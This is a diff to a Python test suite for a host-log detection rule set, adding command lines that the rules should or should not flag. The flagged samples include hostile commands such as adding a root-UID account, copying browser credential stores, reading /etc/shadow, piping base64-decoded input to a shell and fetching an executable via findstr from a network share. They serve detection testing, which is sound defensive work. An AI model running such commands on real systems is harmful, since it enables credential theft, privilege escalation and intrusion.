@@ -15,7 +15,8 @@ from pipeline.detectors.logs.host_rule_set import HOST_RULES
         "/usr/sbin/useradd -o -u 0 toor", "/bin/dd if=/proc/77/mem of=/tmp/x",
         "/usr/bin/find / -name key4.db -exec cp {} /tmp ;",
         "/bin/sh -c 'for i in $(seq 1 254); do ping -c 1 10.0.0.$i; done'",
-        "/bin/sh -c 'echo aWQ= | base64 -d | /bin/bash'",
+        "/bin/sh -c 'echo aWQ= | base64 -d | /bin/bash'", "/bin/bash -c 'echo aWQ= | base64 -d | sh'",
+        "/bin/bash -c 'echo aWQ= | base64 -d |sh; exit'", "findstr /V /L W3 \\\\10.0.0.5\\s\\a.exe > c:\\a.exe",
         "/bin/bash -c 'eval $(echo aWQ= | base64 --decode)'", "/bin/bash -c cat${IFS}/etc/shadow",
         "/usr/bin/cloudflared tunnel --url localhost:22", "/usr/bin/gobuster dir -u http://10.0.0.5",
         "/usr/bin/openssl rsautl -encrypt -inkey p.pem -in a",
@@ -50,7 +51,10 @@ def test_hands_of_strangers(command: str) -> None:
         "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced /v HideFileExt /d 0",
         "reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU /v AUOptions /d 4",
         "netsh advfirewall firewall set rule group=remote desktop new enable=yes",
-        "mmc C:\\Users\\anna\\Desktop\\house.msc",
+        "mmc C:\\Users\\anna\\Desktop\\house.msc", "/bin/bash -c 'echo $SUM | xxd -r -p | sha256sum'",
+        "/bin/sh -c 'base64 -d a.b64 | sha256sum -c'",
+        "/bin/sh -c 'curl -s https://example.org/a.tgz | sha256sum'",
+        "findstr /v /l DEBUG c:\\log\\hl7.log > c:\\log\\short.log",
     ],
 )  # fmt: skip
 def test_hands_of_administrators(command: str) -> None:
@@ -66,7 +70,7 @@ def test_a_shell_under_a_pager() -> None:
         "command_line": "/bin/sh",
         "image": "/bin/sh",
     }
-    for parent, told in (("/usr/bin/less", True), ("/usr/bin/sshd", False)):
+    for parent, told in (("/usr/bin/less", True), ("/usr/bin/sshd", False), ("/usr/bin/screen", False)):
         hits = HOST_RULES.hits(decoded("logs", [shell | {"parent_image": parent}]))
         assert any(HOST_RULES.rules[n].weight >= TOLD for n in hits.numbers) == told
 
